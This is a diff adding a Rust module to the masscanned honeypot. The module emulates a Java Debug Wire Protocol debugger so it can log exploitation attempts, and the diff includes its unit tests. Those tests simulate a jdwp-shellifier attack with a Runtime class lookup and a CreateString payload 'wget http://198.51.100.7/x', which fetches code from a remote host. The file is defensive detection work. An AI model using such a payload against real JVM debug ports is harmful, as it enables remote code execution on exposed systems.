@@ -0,0 +1,430 @@
+// This file is part of masscanned.
+// Copyright 2021 - The IVRE project
+//
+// Masscanned is free software: you can redistribute it and/or modify it
+// under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// Masscanned is distributed in the hope that it will be useful, but WITHOUT
+// ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
+// or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public
+// License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with Masscanned. If not, see <http://www.gnu.org/licenses/>.
+
+use log::*;
+use serde::Deserialize;
+
+use crate::client::ClientInfo;
+use crate::logger::{encode, Encoding, Event};
+use crate::proto::tcb::{ProtoState, TCPControlBlock};
+use crate::Masscanned;
+
+/* Java Debug Wire Protocol (JDK 11 specification) */
+pub const JDWP_HANDSHAKE: &[u8; 14] = b"JDWP-Handshake";
+
+const JDWP_HEADER_LEN: usize = 11;
+const JDWP_FLAG_REPLY: u8 = 0x80;
+/* maximum size of a packet kept between two segments */
+const JDWP_MAX_PACKET: usize = 65536;
+
+const JDWP_ERROR_NONE: u16 = 0;
+const JDWP_ERROR_NOT_IMPLEMENTED: u16 = 99;
+
+/* command set and command */
+const JDWP_VERSION: (u8, u8) = (1, 1);
+const JDWP_CLASSES_BY_SIGNATURE: (u8, u8) = (1, 2);
+const JDWP_ID_SIZES: (u8, u8) = (1, 7);
+const JDWP_CREATE_STRING: (u8, u8) = (1, 11);
+
+/* commands recorded with their names */
+const JDWP_COMMANDS: [((u8, u8), &str); 16] = [
+    (JDWP_VERSION, "VirtualMachine.Version"),
+    (
+        JDWP_CLASSES_BY_SIGNATURE,
+        "VirtualMachine.ClassesBySignature",
+    ),
+    ((1, 3), "VirtualMachine.AllClasses"),
+    ((1, 4), "VirtualMachine.AllThreads"),
+    (JDWP_ID_SIZES, "VirtualMachine.IDSizes"),
+    ((1, 8), "VirtualMachine.Suspend"),
+    ((1, 9), "VirtualMachine.Resume"),
+    ((1, 10), "VirtualMachine.Exit"),
+    (JDWP_CREATE_STRING, "VirtualMachine.CreateString"),
+    ((1, 12), "VirtualMachine.Capabilities"),
+    ((2, 5), "ReferenceType.Methods"),
+    ((3, 3), "ClassType.InvokeMethod"),
+    ((9, 6), "ObjectReference.InvokeMethod"),
+    ((11, 1), "ThreadReference.Name"),
+    ((15, 1), "EventRequest.Set"),
+    ((15, 2), "EventRequest.Clear"),
+];
+
+/* size of the IDs of the VM (fields, methods, objects, reference
+ * types and frames), as on 64-bit HotSpot */
+const JDWP_ID_SIZE: u32 = 8;
+
+/* Java debugger agent (on the configured TCP ports, and on other ports
+ * for the handshake): the handshake is echoed, Version and IDSizes
+ * commands are answered, other commands are recorded (e.g., the
+ * ClassesBySignature and CreateString commands of exploitation tools,
+ * with their string) and get a NOT_IMPLEMENTED error.
+ **/
+#[derive(Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct JdwpConfig {
+    pub ports: Vec<u16>,
+    pub description: String,
+    pub jdwp_major: u32,
+    pub jdwp_minor: u32,
+    pub vm_version: String,
+    pub vm_name: String,
+}
+
+impl Default for JdwpConfig {
+    fn default() -> Self {
+        JdwpConfig {
+            ports: vec![5005, 8787],
+            description: "\
+Java Debug Wire Protocol (Reference Implementation) version 11.0
+JVM Debug Interface version 11.0
+JVM version 11.0.21 (OpenJDK 64-Bit Server VM, mixed mode, sharing)"
+                .to_string(),
+            jdwp_major: 11,
+            jdwp_minor: 0,
+            vm_version: "11.0.21".to_string(),
+            vm_name: "OpenJDK 64-Bit Server VM".to_string(),
+        }
+    }
+}
+
+/* state of a flow: whether the handshake is done, and the beginning of
+ * a packet not received entirely yet */
+#[derive(Default)]
+pub struct JdwpState {
+    handshake: bool,
+    buffer: Vec<u8>,
+}
+
+struct JdwpCommand {
+    length: usize,
+    id: u32,
+    flags: u8,
+    command: (u8, u8),
+}
+
+fn be32(data: &[u8], offset: usize) -> Option<u32> {
+    let b = data.get(offset..offset + 4)?;
+    Some(u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
+}
+
+fn jdwp_parse_header(data: &[u8]) -> Option<JdwpCommand> {
+    if data.len() < JDWP_HEADER_LEN {
+        return None;
+    }
+    Some(JdwpCommand {
+        length: be32(data, 0)? as usize,
+        id: be32(data, 4)?,
+        flags: data[8],
+        command: (data[9], data[10]),
+    })
+}
+
+/* strings: length (in bytes) and (modified) UTF-8 */
+fn jdwp_string(s: &str) -> Vec<u8> {
+    let mut v = (s.len() as u32).to_be_bytes().to_vec();
+    v.extend_from_slice(s.as_bytes());
+    v
+}
+
+fn jdwp_parse_string(data: &[u8]) -> Option<String> {
+    let len = be32(data, 0)? as usize;
+    let s = data.get(4..4 + len)?;
+    Some(String::from_utf8_lossy(s).to_string())
+}
+
+fn jdwp_reply(id: u32, error: u16, data: &[u8]) -> Vec<u8> {
+    let mut reply = ((JDWP_HEADER_LEN + data.len()) as u32)
+        .to_be_bytes()
+        .to_vec();
+    reply.extend_from_slice(&id.to_be_bytes());
+    reply.push(JDWP_FLAG_REPLY);
+    reply.extend_from_slice(&error.to_be_bytes());
+    reply.extend_from_slice(data);
+    reply
+}
+
+fn jdwp_version(config: &JdwpConfig) -> Vec<u8> {
+    let mut data = jdwp_string(&config.description);
+    data.extend_from_slice(&config.jdwp_major.to_be_bytes());
+    data.extend_from_slice(&config.jdwp_minor.to_be_bytes());
+    data.extend(jdwp_string(&config.vm_version));
+    data.extend(jdwp_string(&config.vm_name));
+    data
+}
+
+fn jdwp_event(cmd: &JdwpCommand, data: &[u8], client_info: &ClientInfo) -> Event {
+    let mut event = Event::new("jdwp_command", client_info);
+    event.set("id", cmd.id);
+    event.set("command_set", cmd.command.0);
+    event.set("command", cmd.command.1);
+    if let Some((_, name)) = JDWP_COMMANDS.iter().find(|(c, _)| *c == cmd.command) {
+        event.set("name", *name);
+    }
+    match cmd.command {
+        JDWP_CLASSES_BY_SIGNATURE => {
+            if let Some(s) = jdwp_parse_string(data) {
+                event.set("signature", s);
+            }
+        }
+        JDWP_CREATE_STRING => {
+            if let Some(s) = jdwp_parse_string(data) {
+                event.set("string", s);
+            }
+        }
+        _ => {}
+    }
+    event.set("data", encode(data, Encoding::Base64));
+    event
+}
+
+fn jdwp_answer(
+    cmd: &JdwpCommand,
+    data: &[u8],
+    config: &JdwpConfig,
+    client_info: &ClientInfo,
+) -> Option<Vec<u8>> {
+    if cmd.flags & JDWP_FLAG_REPLY != 0 {
+        /* reply to a command we never sent */
+        return None;
+    }
+    jdwp_event(cmd, data, client_info).log();
+    match cmd.command {
+        JDWP_VERSION => Some(jdwp_reply(cmd.id, JDWP_ERROR_NONE, &jdwp_version(config))),
+        JDWP_ID_SIZES => {
+            let sizes: Vec<u8> = (0..5).flat_map(|_| JDWP_ID_SIZE.to_be_bytes()).collect();
+            Some(jdwp_reply(cmd.id, JDWP_ERROR_NONE, &sizes))
+        }
+        (set, command) => {
+            warn!("JDWP command {}/{}", set, command);
+            Some(jdwp_reply(cmd.id, JDWP_ERROR_NOT_IMPLEMENTED, b""))
+        }
+    }
+}
+
+pub fn repl(
+    data: &[u8],
+    masscanned: &Masscanned,
+    client_info: &mut ClientInfo,
+    mut tcb: Option<&mut TCPControlBlock>,
+) -> Option<Vec<u8>> {
+    debug!("receiving JDWP data");
+    let config = &masscanned.config.jdwp;
+    let mut state = match tcb
+        .as_mut()
+        .map(|t| std::mem::replace(&mut t.proto_state, ProtoState::None))
+    {
+        Some(ProtoState::Jdwp(s)) => s,
+        _ => JdwpState::default(),
+    };
+    state.buffer.extend_from_slice(data);
+    let mut repl_data = Vec::new();
+    if !state.handshake {
+        let len = std::cmp::min(state.buffer.len(), JDWP_HANDSHAKE.len());
+        if state.buffer[..len] != JDWP_HANDSHAKE[..len] {
+            info!("invalid JDWP handshake");
+            client_info.close = true;
+            return None;
+        }
+        if len == JDWP_HANDSHAKE.len() {
+            let mut event = Event::new("jdwp_handshake", client_info);
+            event.set("handshake", String::from_utf8_lossy(JDWP_HANDSHAKE));
+            event.log();
+            state.buffer.drain(..len);
+            state.handshake = true;
+            repl_data.extend_from_slice(JDWP_HANDSHAKE);
+        }
+    }
+    while state.handshake {
+        let cmd = match jdwp_parse_header(&state.buffer) {
+            Some(c) => c,
+            None => break,
+        };
+        if cmd.length < JDWP_HEADER_LEN || cmd.length > JDWP_MAX_PACKET {
+            info!("invalid JDWP packet length: {}", cmd.length);
+            client_info.close = true;
+            return None;
+        }
+        if state.buffer.len() < cmd.length {
+            break;
+        }
+        let packet: Vec<u8> = state.buffer.drain(..cmd.length).collect();
+        if let Some(answer) = jdwp_answer(&cmd, &packet[JDWP_HEADER_LEN..], config, client_info) {
+            repl_data.extend(answer);
+        }
+    }
+    if let Some(t) = tcb {
+        t.proto_state = ProtoState::Jdwp(state);
+    }
+    if repl_data.is_empty() {
+        return None;
+    }
+    debug!("sending JDWP data");
+    Some(repl_data)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use crate::proto::test_util::masscanned;
+    use pnet::packet::ip::IpNextHeaderProtocols;
+
+    fn command(id: u32, set: u8, command: u8, data: &[u8]) -> Vec<u8> {
+        let mut packet = ((JDWP_HEADER_LEN + data.len()) as u32)
+            .to_be_bytes()
+            .to_vec();
+        packet.extend_from_slice(&id.to_be_bytes());
+        packet.extend_from_slice(&[0, set, command]);
+        packet.extend_from_slice(data);
+        packet
+    }
+
+    fn client() -> ClientInfo {
+        let mut client_info = ClientInfo::new();
+        client_info.transport = Some(IpNextHeaderProtocols::Tcp);
+        client_info.port.dst = Some(8000);
+        client_info
+    }
+
+    #[test]
+    fn test_jdwp_handshake() {
+        /* split across segments */
+        let masscanned = masscanned(Config::default());
+        let mut client_info = client();
+        client_info.port.dst = Some(5005);
+        let mut tcb = TCPControlBlock::new();
+        assert!(
+            crate::proto::dispatch(b"JDWP-", &masscanned, &mut client_info, Some(&mut tcb))
+                .is_none()
+        );
+        assert!(!client_info.close);
+        let repl =
+            crate::proto::dispatch(b"Handshake", &masscanned, &mut client_info, Some(&mut tcb))
+                .unwrap();
+        assert!(repl == JDWP_HANDSHAKE);
+        /* on any port, with the first command in the same segment */
+        let mut client_info = client();
+        let mut tcb = TCPControlBlock::new();
+        let mut data = JDWP_HANDSHAKE.to_vec();
+        data.extend(command(1, 1, 7, b""));
+        let repl =
+            crate::proto::dispatch(&data, &masscanned, &mut client_info, Some(&mut tcb)).unwrap();
+        assert!(repl.starts_with(JDWP_HANDSHAKE) && repl.len() == 14 + 11 + 20);
+        /* anything else on a JDWP port */
+        let mut client_info = client();
+        client_info.port.dst = Some(5005);
+        let mut tcb = TCPControlBlock::new();
+        assert!(crate::proto::dispatch(
+            b"GET / HTTP/1.0\r\n\r\n",
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb)
+        )
+        .is_none());
+        assert!(client_info.close);
+    }
+
+    #[test]
+    fn test_jdwp_version() {
+        let config = JdwpConfig {
+            description: "d".to_string(),
+            jdwp_major: 1,
+            jdwp_minor: 8,
+            vm_version: "1.8.0_392".to_string(),
+            vm_name: "é".to_string(),
+            ..Default::default()
+        };
+        let cmd = jdwp_parse_header(&command(0x1234, 1, 1, b"")).unwrap();
+        let reply = jdwp_answer(&cmd, b"", &config, &ClientInfo::new()).unwrap();
+        let mut expected = b"\x00\x00\x00\x2b\x00\x00\x12\x34\x80\x00\x00".to_vec();
+        expected.extend_from_slice(b"\x00\x00\x00\x01d");
+        expected.extend_from_slice(b"\x00\x00\x00\x01\x00\x00\x00\x08");
+        expected.extend_from_slice(b"\x00\x00\x00\x091.8.0_392");
+        /* length in bytes, not in characters */
+        expected.extend_from_slice(b"\x00\x00\x00\x02\xc3\xa9");
+        assert!(expected.len() == 0x2b);
+        assert!(reply == expected);
+        /* default: JDK 11 */
+        let version = jdwp_version(&JdwpConfig::default());
+        assert!(jdwp_parse_string(&version)
+            .unwrap()
+            .starts_with("Java Debug Wire Protocol"));
+    }
+
+    #[test]
+    fn test_jdwp_commands() {
+        let masscanned = masscanned(Config::default());
+        let mut client_info = client();
+        let mut tcb = TCPControlBlock::new();
+        crate::proto::dispatch(
+            JDWP_HANDSHAKE,
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb),
+        );
+        /* IDSizes */
+        let repl = crate::proto::dispatch(
+            &command(2, 1, 7, b""),
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb),
+        )
+        .unwrap();
+        let mut expected = b"\x00\x00\x00\x1f\x00\x00\x00\x02\x80\x00\x00".to_vec();
+        for _ in 0..5 {
+            expected.extend_from_slice(b"\x00\x00\x00\x08");
+        }
+        assert!(repl == expected);
+        /* jdwp-shellifier: ClassesBySignature, recorded */
+        let signature = jdwp_string("Ljava/lang/Runtime;");
+        let packet = command(3, 1, 2, &signature);
+        let cmd = jdwp_parse_header(&packet).unwrap();
+        let event = jdwp_event(&cmd, &signature, &client_info);
+        assert!(event.fields["name"] == "VirtualMachine.ClassesBySignature");
+        assert!(event.fields["signature"] == "Ljava/lang/Runtime;");
+        let repl =
+            crate::proto::dispatch(&packet, &masscanned, &mut client_info, Some(&mut tcb)).unwrap();
+        assert!(repl == b"\x00\x00\x00\x0b\x00\x00\x00\x03\x80\x00\x63");
+        /* CreateString, split across segments */
+        let packet = command(4, 1, 11, &jdwp_string("wget http://198.51.100.7/x"));
+        assert!(crate::proto::dispatch(
+            &packet[..5],
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb)
+        )
+        .is_none());
+        let repl =
+            crate::proto::dispatch(&packet[5..], &masscanned, &mut client_info, Some(&mut tcb))
+                .unwrap();
+        assert!(repl[4..8] == [0, 0, 0, 4] && repl[8] == JDWP_FLAG_REPLY);
+        /* replies from the client are ignored, bad lengths close */
+        let mut packet = command(5, 0, 0, b"");
+        packet[8] = JDWP_FLAG_REPLY;
+        assert!(
+            crate::proto::dispatch(&packet, &masscanned, &mut client_info, Some(&mut tcb))
+                .is_none()
+        );
+        assert!(crate::proto::dispatch(
+            b"\x00\x00\x00\x01\x00\x00\x00\x06\x00\x01\x01",
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb)
+        )
+        .is_none());
+        assert!(client_info.close);
+    }
+}